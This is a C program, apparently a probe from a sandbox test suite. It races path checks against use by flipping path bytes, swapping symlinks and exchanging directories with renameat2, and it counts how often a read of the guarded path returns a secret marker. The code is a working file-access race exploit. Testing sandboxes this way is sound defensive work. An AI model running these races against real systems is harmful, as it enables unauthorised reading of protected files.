// Changes what a path means between check and use: flip TRIES SECONDS NEUTRAL SECRET MARKER
// Prints how often a read gave the marker. The path's bytes, a symlink and a directory are flipped.
// TRIES 0: each race until it is won, SECONDS at the most.
#include <pthread.h>
#include <stdatomic.h>

#include "attack.h"

static char shared_path[4096];
static const char* neutral_path;
static const char* secret_path;
static atomic_int stop;

static void* FlipBytes(void* unused) {
  (void)unused;
  size_t length = strlen(neutral_path);
  size_t other = strlen(secret_path);
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    memcpy(shared_path, secret_path, other + 1);
    for (volatile int i = 0; i < 40; ++i) {
    }
    memcpy(shared_path, neutral_path, length + 1);
    for (volatile int i = 0; i < 40; ++i) {
    }
  }
  return NULL;
}

// flip-link points to the one, then to the other, always replaced in one step.
static void* FlipSymlink(void* unused) {
  (void)unused;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    unlink("flip-new");
    if (symlink(secret_path, "flip-new") == 0) rename("flip-new", "flip-link");
    unlink("flip-new");
    if (symlink(neutral_path, "flip-new") == 0) rename("flip-new", "flip-link");
  }
  return NULL;
}

// flip-a and flip-b are a directory of our own and a symlink to the secret's, exchanged.
static void* FlipDirectory(void* unused) {
  (void)unused;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    syscall(SYS_renameat2, AT_FDCWD, "flip-a", AT_FDCWD, "flip-b", 2 /* RENAME_EXCHANGE */);
  }
  return NULL;
}

struct Tally {
  long tries, opened, leaks;
};

static void Try(const char* path, const char* marker, int use_openat2, struct Tally* tally) {
  ++tally->tries;
  uint64_t how[3] = {O_RDONLY, 0, 0};
  int fd = use_openat2 ? (int)syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how)
                       : open(path, O_RDONLY);
  if (fd < 0) return;
  ++tally->opened;
  char data[512];
  ssize_t size = read(fd, data, sizeof data - 1);
  if (size > 0) {
    data[size] = 0;
    if (strstr(data, marker)) ++tally->leaks;
  }
  close(fd);
}

static void Race(const char* what, void* (*flipper)(void*), const char* path, long tries,
                 double seconds, const char* marker) {
  struct Tally tally = {0, 0, 0};
  pthread_t thread;
  atomic_store(&stop, 0);
  if (pthread_create(&thread, NULL, flipper, NULL) != 0) return;
  double end = Seconds() + seconds;
  while ((tries > 0 ? tally.tries < tries : tally.leaks == 0) &&
         (tally.tries % 64 != 0 || Seconds() < end)) {
    Try(path, marker, (int)(tally.tries & 1), &tally);
    // Both threads may share one processor: the flipper is interrupted anywhere when this wakes.
    if (tries == 0 && tally.tries % 64 == 0) usleep(100);
  }
  atomic_store(&stop, 1);
  pthread_join(thread, NULL);
  Say("RACE %s: tries=%ld opened=%ld leaks=%ld", what, tally.tries, tally.opened, tally.leaks);
}

int main(int argc, char** argv) {
  if (argc != 6) return 2;
  long tries = atol(argv[1]);
  double seconds = atof(argv[2]);
  neutral_path = argv[3];
  secret_path = argv[4];
  strcpy(shared_path, neutral_path);
  Race("bytes", FlipBytes, shared_path, tries, seconds, argv[5]);

  unlink("flip-link");
  if (symlink(neutral_path, "flip-link") != 0) Say("symlink: errno %d", errno);
  Race("symlink", FlipSymlink, "flip-link", tries / 2, seconds / 2, argv[5]);
  unlink("flip-link");
  unlink("flip-new");

  char directory[4096];
  char inside[4200];
  snprintf(directory, sizeof directory, "%s", secret_path);
  char* slash = strrchr(directory, '/');
  *slash = 0;
  mkdir("flip-a", 0755);
  snprintf(inside, sizeof inside, "flip-a/%s", slash + 1);
  close(open(inside, O_WRONLY | O_CREAT, 0644));
  if (symlink(directory, "flip-b") != 0) Say("symlink: errno %d", errno);
  Race("directory", FlipDirectory, inside, tries / 2, seconds / 2, argv[5]);
  unlink("flip-a");
  unlink("flip-b");
  snprintf(inside, sizeof inside, "flip-a/%s", slash + 1);
  unlink(inside);
  rmdir("flip-a");
  snprintf(inside, sizeof inside, "flip-b/%s", slash + 1);
  unlink(inside);
  rmdir("flip-b");
  Done();
  return 0;
}
